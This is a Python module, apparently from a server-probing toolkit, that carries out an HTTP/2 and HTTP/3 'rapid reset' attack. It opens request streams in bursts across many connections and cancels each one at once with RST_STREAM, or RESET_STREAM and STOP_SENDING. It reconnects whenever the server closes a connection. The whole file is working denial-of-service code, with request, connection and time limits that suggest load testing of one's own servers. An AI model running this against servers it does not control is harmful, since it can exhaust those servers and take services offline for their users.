"""Requests that are cancelled at once: python -m probe.rapid_reset PROTOCOL.

It sends them as quickly as it can, on some connections at a time, which it makes anew when the
server ends them. It prints a line once these are open or refused, goes on until its standard input
ends, its time is over or all requests are sent, and prints how many those were, and how many
connections were opened, refused and closed by the server, and are open.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from dataclasses import asdict, dataclass

from aioquic.h3.connection import ErrorCode

from probe import frames, h2, h3, keep, program
from probe.origin import Origin

BURST = 50  # requests between two looks at what the server says
REQUESTS = 50_000


@dataclass
class Attack:
    """What the connections share; the attack stops once so many requests are sent."""

    origin: Origin
    path: str
    stop: asyncio.Event
    total: int
    sent: int = 0

    async def over_h2(self, opened: Callable[[], None]) -> None:
        """Send HEADERS and RST_STREAM on one connection until the server ends it."""
        async with h2.connect(self.origin) as connection:
            opened()
            ended = asyncio.create_task(h2.over(connection, requests=False))
            try:
                while not ended.done() and self._more():
                    for _ in range(BURST):
                        if self._count():
                            connection.reset(connection.open(h2.head(self.origin, self.path)))
                    connection.flush()
                    await connection.writer.drain()
                    await asyncio.sleep(0)  # drain() returns without a pause where all is sent
                await ended
            finally:
                ended.cancel()

    async def over_h3(self, opened: Callable[[], None]) -> None:
        """Send HEADERS, and then RESET_STREAM and STOP_SENDING, until the server ends it."""
        head = frames.request(authority=self.origin.name.encode(), path=self.path.encode())
        name, value = h3.USER_AGENT
        request = frames.headers([*head, (name.encode(), value.encode())])
        async with self.origin.quic(http=False) as connection:
            for data in (frames.CONTROL, frames.ENCODER, frames.DECODER):
                connection.raw(connection.open_raw(unidirectional=True), data)
            opened()
            while not connection.end and self._more():
                streams: list[int] = []
                while len(streams) < BURST and _may_open(connection) and self._count():
                    streams.append(connection.open_raw())
                    connection.quic.send_stream_data(streams[-1], request)
                connection.transmit()
                await _sent(connection, streams)
                _cancel(connection, streams)
                await connection.settled()
            await connection.wait_closed()

    def _more(self) -> bool:
        if self.sent >= self.total:
            self.stop.set()
        return not self.stop.is_set()

    def _count(self) -> bool:
        """Count one more request, if there may be one."""
        if not self._more():
            return False
        self.sent += 1
        return True


def _may_open(connection: h3.Connection) -> bool:
    """Say whether the server allows another stream by now."""
    quic = connection.quic
    return quic.get_next_available_stream_id() // 4 < quic._remote_max_streams_bidi


async def _sent(connection: h3.Connection, streams: list[int]) -> None:
    """Wait until congestion control has let the requests out: a reset would drop what is left."""
    known = connection.quic._streams
    while not connection.end and not all(
        known[number].sender.buffer_is_empty for number in streams if number in known
    ):
        await connection.settled()


def _cancel(connection: h3.Connection, streams: list[int]) -> None:
    """Reset the requests and stop their answers, all in as few datagrams as it takes."""
    quic = connection.quic
    code = ErrorCode.H3_REQUEST_CANCELLED
    for number in streams:
        # RuntimeError: our side has ended already; ValueError: the whole stream has.
        with contextlib.suppress(RuntimeError, ValueError):
            quic.reset_stream(number, code)
        with contextlib.suppress(RuntimeError, ValueError):
            quic.stop_stream(number, code)
    connection.transmit()


async def main() -> None:
    """Attack until told to stop."""
    parser = program.arguments(__doc__)
    parser.add_argument("protocol", choices=["h2", "h3"])
    parser.add_argument("--path", default="/", help="(%(default)s)")
    limits = {
        "--connections": (100, 10, "at a time (%(default)s)"),
        "--requests": (REQUESTS, REQUESTS, "in all (%(default)s)"),
        "--seconds": (program.SECONDS, 10, "the longest it goes on (%(default)s)"),
    }
    for option, (most, default, text) in limits.items():
        parser.add_argument(option, type=program.within(1, most), default=default, help=text)
    options = parser.parse_args()
    origin = program.where(options)
    stop = await program.told(options.seconds)
    attack = Attack(origin, options.path, stop, options.requests)
    client = attack.over_h2 if options.protocol == "h2" else attack.over_h3
    keeper = keep.Keeper(client, options.connections, rate=50, total=5000)
    tally = await keeper.run(stop, program.ready)
    program.say({"requests": attack.sent} | asdict(tally))


if __name__ == "__main__":
    asyncio.run(main())
